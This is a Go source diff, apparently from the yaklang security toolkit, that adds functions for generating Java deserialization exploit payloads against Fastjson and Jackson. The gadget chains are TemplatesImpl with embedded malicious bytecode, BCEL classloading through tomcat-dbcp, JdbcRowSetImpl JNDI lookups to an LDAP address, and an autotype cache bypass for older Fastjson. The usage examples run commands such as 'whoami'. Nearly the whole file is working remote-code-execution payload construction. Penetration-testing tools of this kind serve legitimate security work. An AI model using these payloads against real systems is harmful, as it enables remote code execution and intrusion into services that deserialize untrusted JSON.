@@ -0,0 +1,95 @@
+package yso
+
+import (
+	"fmt"
+
+	"github.com/yaklang/yaklang/common/yak/yaklib/codec"
+)
+
+// the json payloads are built by format string, because the order of keys matters for autotype
+
+// GetFastjsonTemplatesImplPayload generate fastjson payload by TemplatesImpl, the target should parse with Feature.SupportNonPublicField
+// Example:
+// ```
+// payload, err = yso.GetFastjsonTemplatesImplPayload(yso.useRuntimeExecEvilClass("whoami"))
+// body, err = yso.ToBytes(payload)
+// ```
+func GetFastjsonTemplatesImplPayload(options ...GenClassOptionFun) (*FormatPayload, error) {
+	classObj, err := generateFormatEvilClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	raw := fmt.Sprintf(`{"@type":%s,"_bytecodes":[%s],"_name":"yak","_tfactory":{},"_outputProperties":{}}`,
+		jsonString(templatesImplClassName), jsonString(codec.EncodeBase64(classObj.Bytes())))
+	return newRawPayload(FastjsonTemplatesImplGadgetName, FormatFastjson, raw), nil
+}
+
+// GetFastjsonBCELPayload generate fastjson payload by tomcat-dbcp BasicDataSource, the evil class is loaded by BCEL ClassLoader
+// Example:
+// ```
+// payload, err = yso.GetFastjsonBCELPayload(yso.useRuntimeExecEvilClass("whoami"))
+// body, err = yso.ToBytes(payload)
+// ```
+func GetFastjsonBCELPayload(options ...GenClassOptionFun) (*FormatPayload, error) {
+	classObj, err := generateFormatEvilClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	bcel, err := classObj.Bcel()
+	if err != nil {
+		return nil, err
+	}
+	raw := fmt.Sprintf(`{{"@type":"com.alibaba.fastjson.JSONObject","x":{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":%s}}:"x"}`,
+		jsonString(bcel))
+	return newRawPayload(FastjsonBCELGadgetName, FormatFastjson, raw), nil
+}
+
+// GetJacksonTemplatesImplPayload generate jackson payload by TemplatesImpl, the target should enable default typing
+// Example:
+// ```
+// payload, err = yso.GetJacksonTemplatesImplPayload(yso.useRuntimeExecEvilClass("whoami"))
+// body, err = yso.ToBytes(payload)
+// ```
+func GetJacksonTemplatesImplPayload(options ...GenClassOptionFun) (*FormatPayload, error) {
+	classObj, err := generateFormatEvilClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	raw := fmt.Sprintf(`[%s,{"transletBytecodes":[%s],"transletName":"yak","outputProperties":{}}]`,
+		jsonString(templatesImplClassName), jsonString(codec.EncodeBase64(classObj.Bytes())))
+	return newRawPayload(JacksonTemplatesImplGadgetName, FormatJackson, raw), nil
+}
+
+// GetFastjsonJdbcRowSetImplPayload generate fastjson payload by JdbcRowSetImpl, which triggers jndi lookup of the address
+// Example:
+// ```
+// payload = yso.GetFastjsonJdbcRowSetImplPayload("ldap://127.0.0.1:1389/Exploit")
+// body, err = yso.ToBytes(payload)
+// ```
+func GetFastjsonJdbcRowSetImplPayload(jndi string) *FormatPayload {
+	raw := fmt.Sprintf(`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":%s,"autoCommit":true}`, jsonString(jndi))
+	return newRawPayload("FastjsonJdbcRowSetImpl", FormatFastjson, raw)
+}
+
+// GetFastjsonCacheBypassPayload generate fastjson payload which puts JdbcRowSetImpl in the class cache by java.lang.Class first,
+// it bypasses the autotype check before 1.2.48
+// Example:
+// ```
+// payload = yso.GetFastjsonCacheBypassPayload("ldap://127.0.0.1:1389/Exploit")
+// body, err = yso.ToBytes(payload)
+// ```
+func GetFastjsonCacheBypassPayload(jndi string) *FormatPayload {
+	raw := fmt.Sprintf(`{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":%s,"autoCommit":true}}`, jsonString(jndi))
+	return newRawPayload("FastjsonCacheBypass", FormatFastjson, raw)
+}
+
+// GetJacksonJdbcRowSetImplPayload generate jackson payload by JdbcRowSetImpl, which triggers jndi lookup of the address
+// Example:
+// ```
+// payload = yso.GetJacksonJdbcRowSetImplPayload("ldap://127.0.0.1:1389/Exploit")
+// body, err = yso.ToBytes(payload)
+// ```
+func GetJacksonJdbcRowSetImplPayload(jndi string) *FormatPayload {
+	raw := fmt.Sprintf(`["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":%s,"autoCommit":true}]`, jsonString(jndi))
+	return newRawPayload("JacksonJdbcRowSetImpl", FormatJackson, raw)
+}